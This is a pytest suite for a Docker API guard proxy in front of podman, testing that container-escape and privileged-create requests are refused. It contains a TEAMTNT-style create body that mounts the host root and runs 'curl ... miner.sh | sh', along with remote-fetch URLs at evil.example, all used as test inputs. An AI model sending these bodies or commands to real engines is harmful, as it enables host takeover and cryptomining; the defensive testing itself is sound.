"""`network protect docker` in front of a real engine: podman's Docker-compatible API service
(private storage, runc), reached over its unix socket as in production, and over TCP.

Real clients: httpx for the HTTP-level checks and the real `docker` CLI (the static Docker CLI of
this machine kind, /usr/local/bin/docker) for one end-to-end run through the CLI subprocess. The
only stand-ins are tiny socket servers playing a *broken* engine (garbage, truncated answers),
which podman cannot be made to produce. A static binary compiled here (`/cw`: prints, sleeps or
copies stdin to stdout) is the whole image, so containers really run.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import re
import shutil
import signal
import socket
import subprocess
import sys
import tarfile
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cloudward.core.finding import Finding
from cloudward.network.docker_findings import FindingQueue, docker_rules
from cloudward.network.docker_judge import Judge, RequestError, parse_target
from cloudward.network.docker_policy import Policy, PolicyError, TokenEntry, hash_token, load_policy
from cloudward.network.docker_proxy import Address, DockerProxy, parse_address, server_tls
from tests.harness.services import Service, _env_without, free_port, start_podman_api

pytestmark = pytest.mark.services

NS = "network.docker_proxy."  # the rules' id prefix
TOKEN = "cw-test-token-0123456789abcdef"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
ROOT = Path(__file__).resolve().parents[2]
CLOUDWARD = str(Path(sys.executable).with_name("cloudward"))  # the console script, as a user runs it
CW_C = r"""
#include <string.h>
#include <unistd.h>
int main(int argc, char **argv) {
    if (argc > 1 && strcmp(argv[1], "sleep") == 0) { for (;;) pause(); }
    if (argc > 1 && strcmp(argv[1], "cat") == 0) {
        char buf[4096]; ssize_t n;
        while ((n = read(0, buf, sizeof buf)) > 0) if (write(1, buf, (size_t)n) != n) return 1;
        return 0;
    }
    return write(1, "hello from cw\n", 14) == 14 ? 0 : 1;
}
"""
TEAMTNT = {"Image": "IMAGE", "Cmd": ["chroot", "/host", "sh", "-c", "curl -s http://x/miner.sh | sh"],
           "HostConfig": {"Privileged": True, "Binds": ["/:/host"], "PidMode": "host", "NetworkMode": "host"}}


def policy(**changes: Any) -> Policy:
    return Policy(tokens=[TokenEntry(name="test", sha256=hash_token(TOKEN))], **changes)


# --------------------------------------------------------------------------- the engine


class Engine:
    def __init__(self, tcp: Service, sock: Path, image: str) -> None:
        self.tcp = tcp
        self.sock = sock
        self.image = image
        self.client = httpx.Client(base_url=tcp.url or "", timeout=60, trust_env=False)

    @property
    def unix(self) -> Address:
        return Address("unix", path=str(self.sock))

    def containers(self) -> set[str]:
        """What the engine holds, asked directly (not through the proxy)."""
        return {c["Id"] for c in self.client.get("/containers/json", params={"all": 1}).json()}

    def remove(self, ident: str) -> None:
        self.client.delete(f"/containers/{ident}", params={"force": 1})


def build_cw_image(work: Path) -> Path:
    """A one-file rootfs tar: the static `/cw` binary (prints, sleeps, or copies stdin to stdout)."""
    gcc = shutil.which("gcc")
    assert gcc, "gcc is needed to build the test image's static binary (the python machine kind has it)"
    (work / "cw.c").write_text(CW_C)
    subprocess.run([gcc, "-static", "-Os", "-s", "-o", str(work / "cw"), str(work / "cw.c")], check=True, timeout=120)
    rootfs = work / "rootfs.tar"
    with tarfile.open(rootfs, "w") as tar:
        info = tar.gettarinfo(str(work / "cw"), arcname="cw")
        info.uid = info.gid = 0
        info.uname = info.gname = "root"
        with open(work / "cw", "rb") as handle:
            tar.addfile(info, handle)
    return rootfs


@pytest.fixture(scope="module")
def engine(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Engine]:
    """podman over TCP, plus a second podman service on a unix socket over the same storage."""
    rootfs = build_cw_image(tmp_path_factory.mktemp("image"))
    with start_podman_api() as tcp:
        unix = Service("podman-unix")
        sock = unix.dir / "podman.sock"

        def ready(_: Service) -> bool:
            try:
                with httpx.Client(transport=httpx.HTTPTransport(uds=str(sock)), trust_env=False) as c:
                    return c.get("http://d/_ping").text == "OK"
            except httpx.HTTPError:
                return False

        with unix.cleanup_on_error():
            unix.launch(["podman", "--root", tcp.dir / "root", "--runroot", tcp.dir / "runroot", "--storage-driver",
                         "vfs", "system", "service", "--time=0", f"unix://{sock}"], ready=ready,
                        env=_env_without("CONTAINERS_", CONTAINERS_CONF=str(tcp.dir / "containers.conf")))
        try:
            found = Engine(tcp, sock, "docker.io/cwtest/cw:1")
            answer = found.client.post("/images/create", params={"fromSrc": "-"}, content=rootfs.read_bytes(),
                                       headers={"Content-Type": "application/x-tar"})
            assert answer.status_code == 200, answer.text
            tagged = found.client.post(f"/images/{answer.json()['id']}/tag", params={"repo": "cwtest/cw", "tag": "1"})
            assert tagged.status_code == 201, tagged.text
            yield found
        finally:
            unix.stop()


# --------------------------------------------------------------------------- the proxy, in this process


class ProxyThread:
    """A DockerProxy on its own event loop thread; findings are kept in `self.found`."""

    def __init__(self, upstream: Address, load: Callable[[], Policy], *, listen: Address | None = None,
                 sink: Callable[[Any], None] | None = None, **kwargs: Any) -> None:
        self.found: list[Finding] = []
        self.queue = FindingQueue(sink or self.found.extend)
        self.proxy = DockerProxy(upstream, load, self.queue, **kwargs)
        self.loop = asyncio.new_event_loop()
        self.thread = threading.Thread(target=self.loop.run_forever, daemon=True)
        self.thread.start()
        start = self.proxy.start(listen or Address("tcp", host="127.0.0.1", port=0))
        self.bound = asyncio.run_coroutine_threadsafe(start, self.loop).result(10)
        self.url = "http://" + self.bound[0].removeprefix("tcp://")
        self.port = int(self.url.rsplit(":", 1)[1]) if self.bound[0].startswith("tcp://") else 0

    def client(self, **kwargs: Any) -> httpx.Client:
        return httpx.Client(base_url=self.url, timeout=60, trust_env=False, **kwargs)

    def findings(self) -> list[Finding]:
        assert self.queue.flush(10)
        return list(self.found)

    def close(self) -> None:
        asyncio.run_coroutine_threadsafe(self.proxy.close(), self.loop).result(10)
        self.loop.call_soon_threadsafe(self.loop.stop)
        self.thread.join(10)
        self.loop.close()
        self.queue.close()


@pytest.fixture(scope="module")
def proxy(engine: Engine) -> Iterator[ProxyThread]:
    """The default policy in front of the engine's unix socket (as `--upstream unix:///...`)."""
    running = ProxyThread(engine.unix, lambda: policy())
    yield running
    running.close()


@pytest.fixture
def started(request: pytest.FixtureRequest) -> Iterator[Callable[..., ProxyThread]]:
    """Extra proxies for one test, closed after it."""
    made: list[ProxyThread] = []

    def make(*args: Any, **kwargs: Any) -> ProxyThread:
        made.append(ProxyThread(*args, **kwargs))
        return made[-1]

    yield make
    for one in made:
        one.close()


def raw_exchange(port: int, data: bytes, *, read_timeout: float = 10.0) -> bytes:
    """Send bytes, read until the proxy closes (or the timeout)."""
    with socket.create_connection(("127.0.0.1", port), timeout=read_timeout) as sock:
        sock.sendall(data)
        chunks = []
        try:
            while chunk := sock.recv(65536):
                chunks.append(chunk)
        except (TimeoutError, ConnectionResetError):
            pass
    return b"".join(chunks)


def read_response(sock: socket.socket) -> tuple[int, bytes]:
    """One Content-Length response from a kept-alive raw socket."""
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = sock.recv(65536)
        assert chunk, f"connection closed mid-head: {data!r}"
        data += chunk
    head, _, rest = data.partition(b"\r\n\r\n")
    length = next(int(line.split(b":")[1]) for line in head.split(b"\r\n")
                  if line.lower().startswith(b"content-length"))
    while len(rest) < length:
        chunk = sock.recv(65536)
        assert chunk, "connection closed mid-body"
        rest += chunk
    return int(head.split(b" ")[1]), rest[:length]


def post_json(sock: socket.socket, path: str, body: dict[str, Any]) -> tuple[int, bytes]:
    payload = json.dumps(body).encode()
    sock.sendall(f"POST {path} HTTP/1.1\r\nHost: docker\r\nAuthorization: Bearer {TOKEN}\r\n"
                 f"Content-Type: application/json\r\nContent-Length: {len(payload)}\r\n\r\n".encode() + payload)
    return read_response(sock)


# =========================================================================== judging, without an engine

LOCAL = Judge(policy(), ["/srv/engine.sock"], local=True)

# (rule that must fire, or None for a spec that must pass; a container create body)
CREATE_CASES: list[tuple[str | None, dict[str, Any]]] = [
    (NS + "privileged_container", {"HostConfig": {"Privileged": True}}),
    (None, {"HostConfig": {"Privileged": False}}),
    (NS + "privileged_container", {"hostconfig": {"PRIVILEGED": True}}),  # Go matches keys in any case
    (NS + "privileged_container", {"Privileged": True}),  # at the top, where some engines also read it
    (NS + "host_path_mount", {"HostConfig": {"Binds": ["/:/host"]}}),
    (NS + "host_path_mount", {"HostConfig": {"Binds": ["//etc/../:/host:ro"]}}),
    (NS + "host_path_mount", {"HostConfig": {"Binds": ["/etc/shadow:/s:ro"]}}),
    (NS + "host_path_mount", {"HostConfig": {"Binds": ["/var/lib:/v"]}}),  # above /var/lib/docker
    (NS + "runtime_socket_mount", {"HostConfig": {"Binds": ["/var:/v"]}}),  # above docker.sock
    (NS + "host_path_mount", {"HostConfig": {"Bind\u017f": ["/:/host"]}}),  # long s folds to s, as in Go
    (NS + "host_path_mount", {"HostConfig": {"Mounts": [{"Type": "bind", "Source": "/", "Target": "/h"}]}}),
    (NS + "host_path_mount", {"HostConfig": {"Mounts": [{"Type": "volume", "Target": "/h", "VolumeOptions": {
        "DriverConfig": {"Name": "local", "Options": {"type": "none", "o": "bind", "device": "/"}}}}]}}),
    (NS + "host_path_mount", {"HostConfig": {"Devices": [], "Binds": ["/proc/1/root:/r"]}}),
    (None, {"HostConfig": {"Binds": ["/srv/app/data:/data", "named-volume:/cache", "/etc/localtime:/etc/localtime:ro"],
                           "Mounts": [{"Type": "tmpfs", "Target": "/tmp"}, {"Type": "volume", "Source": "v"}]}}),
    (NS + "runtime_socket_mount", {"HostConfig": {"Binds": ["/var/run/docker.sock:/var/run/docker.sock"]}}),
    (NS + "runtime_socket_mount", {"HostConfig": {"Binds": ["/run/podman:/p"]}}),
    (NS + "runtime_socket_mount", {"HostConfig": {"Binds": ["/srv:/srv"]}}),  # the proxy's upstream socket
    (NS + "host_namespace", {"HostConfig": {"PidMode": "host"}}),
    (NS + "host_namespace", {"HostConfig": {"NetworkMode": "HOST"}}),
    (NS + "host_namespace", {"HostConfig": {"IpcMode": "host"}}),
    (NS + "host_namespace", {"HostConfig": {"UsernsMode": "host"}}),
    (None, {"HostConfig": {"PidMode": "container:abc", "NetworkMode": "bridge", "IpcMode": "private"}}),
    (NS + "strong_capability", {"HostConfig": {"CapAdd": ["SYS_ADMIN"]}}),
    (NS + "strong_capability", {"HostConfig": {"CapAdd": ["cap_sys_ptrace"]}}),
    (NS + "strong_capability", {"HostConfig": {"CapAdd": ["all"]}}),
    (NS + "strong_capability", {"HostConfig": {"CapAdd": ["DAC_READ_SEARCH"]}}),
    (None, {"HostConfig": {"CapAdd": ["CHOWN", "NET_BIND_SERVICE"], "CapDrop": ["ALL"]}}),
    (NS + "unconfined_security_profile", {"HostConfig": {"SecurityOpt": ["seccomp=unconfined"]}}),
    (NS + "unconfined_security_profile", {"HostConfig": {"SecurityOpt": ["apparmor:unconfined"]}}),
    (NS + "unconfined_security_profile", {"HostConfig": {"SecurityOpt": ["label=disable"]}}),
    (NS + "unconfined_security_profile", {"HostConfig": {"SecurityOpt": [
        'seccomp={"defaultAction": "SCMP_ACT_ALLOW", "syscalls": []}']}}),
    (NS + "unconfined_security_profile", {"HostConfig": {"MaskedPaths": [], "ReadonlyPaths": []}}),
    (None, {"HostConfig": {"MaskedPaths": ["/proc/kcore", "/proc/keys", "/proc/timer_list", "/sys/firmware",
                                           "/proc/acpi"], "ReadonlyPaths": None}}),
    (None, {"HostConfig": {"SecurityOpt": ["no-new-privileges=true", "apparmor=docker-default",
                                           'seccomp={"defaultAction": "SCMP_ACT_ERRNO"}']}}),
    (NS + "host_device", {"HostConfig": {"Devices": [{"PathOnHost": "/dev/sda", "PathInContainer": "/d"}]}}),
    (NS + "host_device", {"HostConfig": {"DeviceCgroupRules": ["b *:* rwm"]}}),
    (None, {"HostConfig": {"Devices": None, "DeviceCgroupRules": []}}),
]


@pytest.mark.parametrize(("rule", "body"), CREATE_CASES, ids=[f"{r or 'allowed'}-{i}" for i, (r, _) in
                                                               enumerate(CREATE_CASES)])
def test_container_create_judgement(rule: str | None, body: dict[str, Any]) -> None:
    route = parse_target(b"POST", b"/v1.41/containers/create")
    found = {v.rule_id for v in LOCAL.body(route, json.dumps({"Image": "alpine", **body}).encode())}
    assert found == ({rule} if rule else set())


def test_policy_knobs_relax_exactly_what_they_name() -> None:
    relaxed = Judge(policy(allow_privileged=True, allow_host_namespaces=["network"], allow_capabilities=["NET_ADMIN"],
                           allow_devices=["/dev/fuse"], allow_host_paths=["/etc/ssl/certs"], allow_unconfined=True))
    route = parse_target(b"POST", b"/containers/create")
    allowed = {"HostConfig": {"Privileged": True, "NetworkMode": "host", "CapAdd": ["NET_ADMIN"],
                              "Devices": [{"PathOnHost": "/dev/fuse"}], "Binds": ["/etc/ssl/certs:/c:ro"],
                              "SecurityOpt": ["seccomp=unconfined"]}}
    assert relaxed.body(route, json.dumps(allowed).encode()) == []
    still = {"HostConfig": {"PidMode": "host", "CapAdd": ["SYS_ADMIN"], "Devices": [{"PathOnHost": "/dev/sda"}],
                            "Binds": ["/etc:/e"]}}
    libpod = parse_target(b"POST", b"/v4.0.0/libpod/containers/create")
    assert Judge(policy(allow_apis=["libpod"])).head(libpod) == [] and relaxed.head(libpod)
    assert Judge(policy(allow_exec=True)).head(parse_target(b"POST", b"/containers/x/exec")) == []
    assert {v.rule_id for v in relaxed.body(route, json.dumps(still).encode())} == {
        NS + "host_namespace", NS + "strong_capability", NS + "host_device",
        NS + "host_path_mount"}


def test_symlinked_bind_source_is_judged_where_it_leads(tmp_path: Path) -> None:
    (tmp_path / "root").symlink_to("/")
    (tmp_path / "data").mkdir()
    route = parse_target(b"POST", b"/containers/create")
    bad = LOCAL.body(route, json.dumps({"HostConfig": {"Binds": [f"{tmp_path}/root:/host"]}}).encode())
    assert [v.rule_id for v in bad] == [NS + "host_path_mount"] and "symbolic link" in bad[0].reason
    assert LOCAL.body(route, json.dumps({"HostConfig": {"Binds": [f"{tmp_path}/data:/d"]}}).encode()) == []
    remote = Judge(policy(), local=False)  # an engine elsewhere: its links cannot be read from here
    assert remote.body(route, json.dumps({"HostConfig": {"Binds": [f"{tmp_path}/root:/host"]}}).encode()) == []


@pytest.mark.parametrize(("body", "message"), [
    (b"", "not valid JSON"), (b"[1, 2]", "must be a JSON object"), (b'{"HostConfig": {"Privileged": "true"}}',
                                                                     "unexpected JSON type"),
    (b'{"HostConfig": {"Privileged": false, "privileged": true}}', "given 2 times"),
    (b'{"HostConfig": {"Binds": [1]}}', "must be a string"), (b"\xff\xfe{}", "not UTF-8"),
    (b"[" * 100_000, "nests too deeply"), (b'{"HostConfig": {"SecurityOpt": ["seccomp={broken"]}}', "not valid JSON"),
])
def test_unjudgeable_bodies_are_refused(body: bytes, message: str) -> None:
    with pytest.raises(RequestError, match=message) as caught:
        LOCAL.body(parse_target(b"POST", b"/containers/create"), body)
    assert caught.value.status == 400 and caught.value.rule_id == NS + "malformed_request"


@pytest.mark.parametrize(("method", "target", "query_rule"), [
    (b"POST", b"/containers/abc/exec", NS + "exec"),
    (b"POST", b"/v1.43/exec/abc/start", NS + "exec"),
    (b"POST", b"/plugins/pull?remote=evil/plugin", NS + "plugin_install"),
    (b"POST", b"/plugins/p/upgrade", NS + "plugin_install"),
    (b"POST", b"/swarm/join", NS + "swarm_change"),
    (b"POST", b"/swarm/init", NS + "swarm_change"),
    (b"POST", b"/build?remote=https://evil.example/ctx.tar", NS + "remote_fetch"),
    (b"POST", b"/build?networkmode=host", NS + "host_namespace"),
    (b"POST", b"/images/create?fromSrc=http://evil.example/rootfs.tar", NS + "remote_fetch"),
    (b"POST", b"/images/create?fromImage=evil.example/miner&tag=1", NS + "denied_image"),
    (b"POST", b"/v4.0.0/libpod/containers/create", NS + "unjudged_api"),
    (b"POST", b"/session", NS + "unjudged_api"),
    (b"GET", b"/containers/json", None), (b"POST", b"/images/create?fromImage=alpine&tag=3", None),
    (b"POST", b"/images/create?fromSrc=-", None), (b"POST", b"/build?t=app", None), (b"GET", b"/plugins", None),
    (b"DELETE", b"/containers/create", None),  # removes a container named "create"
    (b"GET", b"/swarm", None),
])
def test_request_heads(method: bytes, target: bytes, query_rule: str | None) -> None:
    judge = Judge(policy(denied_registries=["evil.example"]))
    found = [v.rule_id for v in judge.head(parse_target(method, target))]
    assert found == ([query_rule] if query_rule else [])


def test_registry_lists() -> None:
    only = Judge(policy(allowed_registries=["registry.internal:5000", "docker.io/library"]))
    head = only.head
    assert head(parse_target(b"POST", b"/images/create?fromImage=alpine")) == []
    assert head(parse_target(b"POST", b"/images/create?fromImage=registry.internal:5000/team/app:1")) == []
    assert [v.rule_id for v in head(parse_target(b"POST", b"/images/create?fromImage=someone/miner"))] == [
        NS + "denied_image"]
    create = parse_target(b"POST", b"/containers/create")
    found = only.body(create, b'{"Image": "ghcr.io/x/y@sha256:00"}')
    assert [v.rule_id for v in found] == [NS + "denied_image"]


# spellings of POST /containers/create that must all be judged as it
CREATE_SPELLINGS = [b"/containers/create", b"/v1.41/containers/create", b"/V1.41/Containers/CREATE",
                    b"//containers//create", b"/containers/./create", b"/containers/x/../create",
                    b"/%63ontainers/create", b"/containers%2Fcreate", b"/containers/create/",
                    b"/v1.41/v1.24/containers/create", b"/v1.41/../containers/create?name=a",
                    b"/./v1.41/containers/create"]


@pytest.mark.parametrize("target", CREATE_SPELLINGS)
def test_path_spellings_are_judged_as_the_endpoint_they_reach(target: bytes) -> None:
    route = parse_target(b"POST", target)
    assert route.kind == "container_create"
    assert parse_target(b"POST", route.target).segments == route.segments  # what goes upstream is what was judged


@pytest.mark.parametrize("target", [b"/containers%252Fcreate", b"/containers/create%00", b"/containers/create#x",
                                    b"http://engine/containers/create", b"*", b"/containers/%zzcreate",
                                    b"/containers/cre%C3%28ate"])
def test_unjudgeable_targets_are_refused(target: bytes) -> None:
    with pytest.raises(RequestError):
        parse_target(b"POST", target)


# --------------------------------------------------------------------------- hypothesis: the parsers


@settings(max_examples=400, deadline=None)
@given(st.binary(max_size=200))
def test_fuzz_parse_target_raises_only_request_error(target: bytes) -> None:
    try:
        route = parse_target(b"POST", b"/" + target)
    except RequestError:
        return
    again = parse_target(b"POST", route.target)
    assert (again.segments, again.kind) == (route.segments, route.kind)


@st.composite
def create_spellings(draw: st.DrawFn) -> bytes:
    parts = [draw(st.sampled_from(["", "v1.41/", "V1.24/", "v1.41/v1.41/"]))]
    for word in ("containers", "create"):
        spelled = "".join(f"%{ord(c):02X}" if draw(st.booleans()) else (c.upper() if draw(st.booleans()) else c)
                          for c in word)
        parts.append(spelled + draw(st.sampled_from(["/", "//", "/./", "/x/../"])))
    return ("/" + "".join(parts)).encode()


@settings(max_examples=200, deadline=None)
@given(create_spellings())
def test_fuzz_any_spelling_of_create_is_judged(target: bytes) -> None:
    route = parse_target(b"POST", target)
    assert route.kind == "container_create"
    assert LOCAL.body(route, json.dumps(TEAMTNT).encode())


JSON_VALUES = st.recursive(st.none() | st.booleans() | st.integers() | st.text(max_size=20),
                           lambda inner: st.lists(inner, max_size=4) | st.dictionaries(
                               st.sampled_from(["HostConfig", "hostconfig", "Privileged", "Binds", "Mounts", "Type",
                                                "Source", "CapAdd", "SecurityOpt", "Devices", "PathOnHost",
                                                "VolumeOptions", "DriverConfig", "Options", "device", "o", "x"]),
                               inner, max_size=5), max_leaves=30)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(JSON_VALUES, st.sampled_from([b"/containers/create", b"/containers/x/start", b"/volumes/create",
                                     b"/services/create", b"/containers/x/exec"]))
def test_fuzz_body_judge_raises_only_request_error(value: Any, target: bytes) -> None:
    judge = Judge(policy(allow_exec=True), local=True)
    with contextlib.suppress(RequestError):
        judge.body(parse_target(b"POST", target), json.dumps(value).encode())


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=300))
def test_fuzz_raw_body_bytes(body: bytes) -> None:
    with contextlib.suppress(RequestError):
        LOCAL.body(parse_target(b"POST", b"/containers/create"), body)


def test_rules_are_complete_data() -> None:
    rules = docker_rules()
    assert len(rules) == 16
    for rule in rules.values():
        assert rule.references and rule.attack and rule.match["engine"] == "docker_proxy"
    assert {"T1610", "T1611"} <= set(rules[NS + "privileged_container"].attack)


# --------------------------------------------------------------------------- policy files


def test_policy_files(tmp_path: Path) -> None:
    good = tmp_path / "policy.yaml"
    good.write_text(f"tokens:\n  - name: ci\n    sha256: {hash_token(TOKEN)}\nallow_exec: true\n")
    loaded = load_policy(good)
    assert loaded.allow_exec and loaded.tokens[0].name == "ci" and not loaded.allow_privileged
    toml = tmp_path / "policy.toml"
    toml.write_text(f'allow_swarm = true\n[[tokens]]\nname = "ci"\nsha256 = "{hash_token(TOKEN)}"\n')
    assert load_policy(toml).allow_swarm
    token_file = tmp_path / "token"
    token_file.write_text(TOKEN + "\n")
    assert [t.name for t in load_policy(None, token_file).tokens] == ["token-file"]
    for text, message in [("tokens: [", "not valid YAML"), ("- a\n", "a mapping"), ("alow_exec: true\n", "alow_exec"),
                          ("tokens:\n  - name: x\n    sha256: abc\n", "64 hex digits"), ("{}\n", "no tokens"),
                          ("tokens: []\nmax_body_bytes: 1\n", "max_body_bytes"),
                          ("tokens: []\ndenied_host_paths: [etc]\n", "not an absolute path")]:
        bad = tmp_path / "bad.yaml"
        bad.write_text(text)
        with pytest.raises(PolicyError, match=message) as caught:
            load_policy(bad)
        assert str(bad) in str(caught.value)
    with pytest.raises(PolicyError, match="cannot read"):
        load_policy(tmp_path / "missing.yaml")
    short = tmp_path / "short"
    short.write_text("abc")
    with pytest.raises(PolicyError, match="at least 16"):
        load_policy(None, short)


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(max_size=300) | st.dictionaries(st.sampled_from(["tokens", "allow_exec", "denied_host_paths",
                                                                 "max_body_bytes", "allowed_registries", "x"]),
                                                JSON_VALUES, max_size=4).map(json.dumps))
def test_fuzz_policy_files_fail_with_policy_error_only(tmp_path: Path, text: str) -> None:
    file = tmp_path / "fuzzed.yaml"
    file.write_text(text, encoding="utf-8")
    with contextlib.suppress(PolicyError):
        load_policy(file)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=60))
def test_fuzz_addresses_fail_with_value_error_only(text: str) -> None:
    with contextlib.suppress(ValueError):
        parse_address(text)


def test_addresses() -> None:
    assert parse_address("unix:///run/podman/podman.sock") == Address("unix", path="/run/podman/podman.sock")
    assert parse_address("0.0.0.0:2375") == Address("tcp", host="0.0.0.0", port=2375)
    assert parse_address("tcp://[::1]:2376") == Address("tcp", host="::1", port=2376)
    assert str(parse_address("127.0.0.1")) == "tcp://127.0.0.1:2375"
    assert parse_address("::1") == Address("tcp", host="::1", port=2375)
    for bad in ("unix://relative.sock", "host:port", "a:b:c:d:1:x"):
        with pytest.raises(ValueError):
            parse_address(bad)


# =========================================================================== through the proxy, real engine


def test_token_is_required(proxy: ProxyThread) -> None:
    before = len([f for f in proxy.findings() if f.rule_id == NS + "unauthenticated"])
    with proxy.client() as anonymous:
        answer = anonymous.get("/version")
        assert answer.status_code == 401 and answer.headers["www-authenticate"].startswith("Bearer")
        assert "bearer token is required" in answer.json()["message"]
        for header in ("Bearer wrong-token-0123456789", f"Basic {TOKEN}", "Bearer", f"bearer  {TOKEN}x"):
            assert anonymous.get("/_ping", headers={"Authorization": header}).status_code == 401
        doubled = anonymous.get("/_ping", headers=[("Authorization", f"Bearer {TOKEN}"),
                                                   ("Authorization", f"Bearer {TOKEN}")])
        assert doubled.status_code == 401
    with proxy.client(headers=AUTH) as client:
        assert client.get("/_ping").text == "OK"
        assert client.head("/_ping").status_code == 200
        version = client.get("/v1.41/version").json()
        assert version["ApiVersion"] and version["Components"]
        assert isinstance(client.get("/containers/json").json(), list)
    unauthenticated = [f for f in proxy.findings() if f.rule_id == NS + "unauthenticated"]
    assert len(unauthenticated) - before == 6
    assert TOKEN not in json.dumps([f.to_contract() for f in unauthenticated])


def test_harmless_container_lifecycle(proxy: ProxyThread, engine: Engine) -> None:
    with proxy.client(headers=AUTH) as client:
        created = client.post("/v1.41/containers/create", params={"name": "cwt-harmless"},
                              json={"Image": engine.image, "Cmd": ["/cw"], "HostConfig": {"Binds": [
                                  f"{engine.tcp.dir}:/data:ro"], "CapAdd": ["CHOWN"]}})
        assert created.status_code == 201, created.text
        ident = created.json()["Id"]
        assert ident in engine.containers()
        assert client.post(f"/v1.41/containers/{ident}/start").status_code == 204
        assert client.post(f"/v1.41/containers/{ident}/wait").json()["StatusCode"] == 0
        logs = client.get(f"/v1.41/containers/{ident}/logs", params={"stdout": 1})
        assert b"hello from cw" in logs.content
        assert client.delete(f"/v1.41/containers/{ident}").status_code == 204
    assert ident not in engine.containers()


def test_teamtnt_create_is_refused_and_nothing_is_created(proxy: ProxyThread, engine: Engine) -> None:
    before = engine.containers()
    with proxy.client(headers=AUTH) as client:
        answer = client.post("/v1.41/containers/create", json={**TEAMTNT, "Image": engine.image})
        assert answer.status_code == 403
        message = answer.json()["message"]
        assert "privileged container" in message and "root filesystem" in message and "incident" in message
        # each single step of it is refused on its own too
        for host_config in ({"Privileged": True}, {"Binds": ["/:/host"]}, {"PidMode": "host"},
                            {"NetworkMode": "host"}, {"Binds": ["/var/run/docker.sock:/var/run/docker.sock"]},
                            {"Binds": [f"{engine.sock}:/engine.sock"]}, {"CapAdd": ["SYS_ADMIN"]},
                            {"Mounts": [{"Type": "bind", "Source": "/etc", "Target": "/e"}]}):
            one = client.post("/containers/create", json={"Image": engine.image, "HostConfig": host_config})
            assert one.status_code == 403, (host_config, one.text)
        assert client.post("/volumes/create", json={"Name": "cwt-host", "DriverOpts": {
            "type": "none", "o": "bind", "device": "/"}}).status_code == 403
    assert engine.containers() == before
    assert "cwt-host" not in {v["Name"] for v in engine.client.get("/volumes").json()["Volumes"] or []}
    teamtnt = [f for f in proxy.findings() if message.split("incident ")[1].rstrip("]") in
               f.evidence["incident_id"]]
    assert {f.rule_id for f in teamtnt} == {NS + "privileged_container", NS + "host_path_mount",
                                            NS + "host_namespace"}
    for finding in teamtnt:
        assert {"T1610", "T1611"} <= set(finding.attack) and finding.evidence["token"] == "test"
        assert finding.target.name == "docker-proxy:POST /v1.41/containers/create"
        assert "miner" not in json.dumps(finding.to_contract())  # the body never leaves


def test_path_spellings_cannot_bypass(proxy: ProxyThread, engine: Engine) -> None:
    before = engine.containers()
    body = json.dumps({**TEAMTNT, "Image": engine.image}).encode()
    for target in [*CREATE_SPELLINGS, b"/containers%252Fcreate", b"/containers/create%00", b"/containers/create#x"]:
        with socket.create_connection(("127.0.0.1", proxy.port), timeout=10) as sock:
            sock.sendall(b"POST " + target + b" HTTP/1.1\r\nHost: docker\r\nAuthorization: Bearer " + TOKEN.encode() +
                         b"\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
            status, _ = read_response(sock)
        assert status in (400, 403), target
    assert engine.containers() == before
    # and the odd spelling of a harmless create reaches the engine as the canonical path
    with proxy.client(headers=AUTH) as client:
        created = client.post("/v1.41//containers/./create", json={"Image": engine.image, "Cmd": ["/cw"]})
        assert created.status_code == 201, created.text
    engine.remove(created.json()["Id"])


def test_expect_100_continue_body_is_still_judged(proxy: ProxyThread, engine: Engine) -> None:
    body = json.dumps({**TEAMTNT, "Image": engine.image}).encode()
    with socket.create_connection(("127.0.0.1", proxy.port), timeout=30) as sock:
        sock.sendall(b"POST /containers/create HTTP/1.1\r\nHost: d\r\nAuthorization: Bearer " + TOKEN.encode() +
                     b"\r\nExpect: 100-continue\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n"
                     % len(body))
        interim = sock.recv(65536)
        assert interim.startswith(b"HTTP/1.1 100 ")
        sock.sendall(body)
        status, answer = read_response(sock)
    assert status == 403 and b"privileged container" in answer


def test_exec_is_refused(proxy: ProxyThread, engine: Engine) -> None:
    sleeper = engine.client.post("/containers/create", json={"Image": engine.image, "Cmd": ["/cw", "sleep"]})
    ident = sleeper.json()["Id"]
    try:
        assert engine.client.post(f"/containers/{ident}/start").status_code == 204
        with proxy.client(headers=AUTH) as client:
            answer = client.post(f"/containers/{ident}/exec", json={"Cmd": ["/cw"], "AttachStdout": True})
            assert answer.status_code == 403 and "exec into a container" in answer.json()["message"]
            assert client.post("/exec/0123abcd/start", json={"Detach": True}).status_code == 403
            assert client.get("/_ping").text == "OK"  # the refusal kept the connection usable
        execs = engine.client.get(f"/containers/{ident}/json").json().get("ExecIDs") or []
        assert execs == []
    finally:
        engine.remove(ident)


def test_exec_hijack_without_upgrade(started: Callable[..., ProxyThread], engine: Engine) -> None:
    """An older client's exec start without `Upgrade`: the engine answers 200 and a raw stream that
    ends with the connection; it comes through byte for byte (not re-chunked)."""
    allowed = started(engine.unix, lambda: policy(allow_exec=True))
    sleeper = engine.client.post("/containers/create", json={"Image": engine.image, "Cmd": ["/cw", "sleep"]})
    ident = sleeper.json()["Id"]
    try:
        assert engine.client.post(f"/containers/{ident}/start").status_code == 204
        with allowed.client(headers=AUTH) as client:
            made = client.post(f"/containers/{ident}/exec", json={"Cmd": ["/cw"], "AttachStdout": True})
            assert made.status_code == 201, made.text
        body = b'{"Detach": false, "Tty": false}'
        answer = raw_exchange(allowed.port, b"POST /exec/" + made.json()["Id"].encode() + b"/start HTTP/1.1\r\n"
                              b"Host: d\r\nAuthorization: Bearer " + TOKEN.encode() + b"\r\nContent-Type: "
                              b"application/json\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
        head, _, stream = answer.partition(b"\r\n\r\n")
        assert head.startswith(b"HTTP/1.1 200") and b"transfer-encoding" not in head.lower()
        assert stream == b"\x01\x00\x00\x00\x00\x00\x00\x0ehello from cw\n"  # one stdout frame, as sent
    finally:
        engine.remove(ident)


